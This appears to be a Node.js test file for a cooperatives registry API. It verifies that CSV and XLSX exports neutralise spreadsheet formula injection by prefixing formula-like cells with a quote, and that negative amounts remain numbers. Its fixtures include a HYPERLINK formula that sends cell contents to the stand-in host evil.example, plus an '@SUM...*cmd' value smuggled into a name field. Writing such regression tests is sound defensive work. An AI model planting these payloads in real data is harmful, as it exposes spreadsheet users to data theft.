// Formula injection (issue 8, item 6): a cell that begins with = + - @, a tab or a CR is
// written as text in every CSV and XLSX, and reads back as what was stored; negative amounts
// are still numbers.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import XLSX from 'xlsx';
import { startServer } from './server.mjs';

let server, lienminh, taihoan;
const TAI_HOAN = 2;
const EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Giám đốc")';
before(async () => {
  server = await startServer();
  lienminh = await server.as('lienminh');
  taihoan = await server.as('htx-taihoan');
  const res = await taihoan.request(`/api/v1/cooperatives/${TAI_HOAN}`, {
    method: 'PATCH', json: { representative: { name: '@SUM(1+1)*cmd', title: EVIL, phone: '0912345602', email: 'taihoan@example.vn' } },
  });
  assert.equal(res.status, 200, res.text);
});
after(async () => { await server.stop(); server.cleanup(); });

test('the public CSV export writes a formula-like cell as text', async () => {
  const res = await server.request('/api/v1/cooperatives/export?format=csv&q=tai%20hoan');
  assert.equal(res.status, 200);
  assert.ok(res.text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""Giám đốc"")"`), res.text.slice(0, 600));
  assert.ok(res.text.includes("'@SUM(1+1)*cmd"));
  for (const line of res.text.split('\r\n'))
    for (const cell of line.split(','))
      assert.ok(!/^"?[=@]/.test(cell), `a cell starts a formula: ${cell}`);
});

test('the XLSX export writes it as text, and an import of the export reads back the same title', async () => {
  const res = await lienminh.request('/api/v1/cooperatives/export?format=xlsx&q=tai%20hoan');
  const wb = XLSX.read(res.buffer);
  const rows = XLSX.utils.sheet_to_json(wb.Sheets[wb.SheetNames[0]], { header: 1 });
  const titleAt = rows[0].indexOf('Chức danh người đại diện');
  assert.equal(rows[1][titleAt], `'${EVIL}`);
  for (const row of rows) for (const cell of row) assert.ok(typeof cell !== 'string' || !/^[=@+]/.test(cell), `${cell}`);
  // Nothing in the workbook is a formula.
  const sheet = wb.Sheets[wb.SheetNames[0]];
  assert.ok(Object.keys(sheet).every((k) => k.startsWith('!') || !sheet[k].f), 'a cell holds a formula');
  // A dry-run import of the exported CSV reads the title as it was stored.
  const csv = await lienminh.request('/api/v1/cooperatives/export?format=csv&q=tai%20hoan');
  const again = await lienminh.request('/api/v1/cooperatives/import?dry_run=1', { method: 'POST', body: csv.buffer, headers: { 'content-type': 'text/csv' } });
  assert.equal(again.status, 200);
  assert.ok(!again.body.errors.some((e) => e.field.includes('representative')), again.text);
});

test('negative amounts in a report stay numbers, in CSV and in XLSX', async () => {
  const put = await lienminh.request(`/api/v1/cooperatives/${TAI_HOAN}/years/2024`, {
    method: 'PUT', json: { members_official: 12, members_associate: 3, workers: 20, revenue_vnd: 1000000000, profit_vnd: -900000000000, avg_income_vnd: 62000000, classification: 'kha' },
  });
  assert.ok([200, 201].includes(put.status), put.text);
  const csv = await lienminh.request('/api/v1/reports/economy?year=2024&format=csv');
  assert.equal(csv.status, 200);
  assert.match(csv.text, /(^|,)"?-\d/m, 'the report has a negative amount');
  assert.ok(!csv.text.includes("'-"), 'a negative number was guarded as text');
  const xlsx = await lienminh.request('/api/v1/reports/economy?year=2024&format=xlsx');
  const wb = XLSX.read(xlsx.buffer);
  for (const name of wb.SheetNames)
    for (const [k, cell] of Object.entries(wb.Sheets[name]))
      if (!k.startsWith('!') && cell.t === 's') assert.ok(!/^[=@]/.test(cell.v), `${name}!${k}: ${cell.v}`);
});
